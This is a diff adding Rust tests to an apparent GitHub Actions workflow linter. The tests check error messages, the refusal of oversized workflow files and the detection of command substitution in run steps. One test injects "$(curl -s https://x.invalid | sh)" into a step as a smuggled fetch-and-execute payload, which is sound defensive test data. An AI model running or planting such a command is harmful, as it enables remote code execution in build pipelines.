@@ -93,8 +93,14 @@ fn a_missing_directory_or_a_file_that_is_not_yaml() {
     assert_eq!(run.code, 2, "{}", run.all());
     assert!(
         run.stderr
-            .contains("cannot read /nonexistent/.github/workflows"),
+            .contains("cannot read /nonexistent/.github/workflows: No such file or directory"),
         "{}",
+        run.all()
+    );
+    assert_eq!(
+        run.stderr.matches("No such file").count(),
+        1,
+        "said once: {}",
         run.all()
     );
     let github = copy_of_github();
@@ -517,4 +523,42 @@ fn the_readme_verifies_attestations_against_the_workflow_that_signs_them() {
             Some(format!("$/.github/{signer}"))
         );
     }
+}
+
+#[test]
+fn a_workflow_file_of_50_mb_is_refused_unparsed() {
+    let github = copy_of_github();
+    let step = "      - run: cargo xtask ci\n";
+    let mut big = String::from("on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n");
+    big.push_str(&step.repeat((50 << 20) / step.len()));
+    github.write("workflows/big.yml", &big);
+    let run = rules_only(&github);
+    assert_eq!(run.code, 2, "{}", run.all());
+    let file = github.path().join("workflows/big.yml");
+    assert!(
+        run.stderr.contains(&format!(
+            "{file} is {} bytes: workflow files over 2097152 bytes (2 MiB) are refused before parsing",
+            big.len()
+        )),
+        "{}",
+        run.all()
+    );
+}
+
+#[test]
+fn a_run_step_that_runs_more_than_its_command_is_a_finding() {
+    let github = copy_of_github();
+    let ci = github.read("workflows/ci.yml").replacen(
+        "run: cargo xtask coverage\n",
+        "run: cargo xtask coverage --base \"$(curl -s https://x.invalid | sh)\"\n",
+        1,
+    );
+    github.write("workflows/ci.yml", &ci);
+    let run = rules_only(&github);
+    assert_eq!(run.code, 1, "{}", run.all());
+    assert!(
+        run.stdout.contains("holds `$(` (command substitution)"),
+        "{}",
+        run.all()
+    );
 }
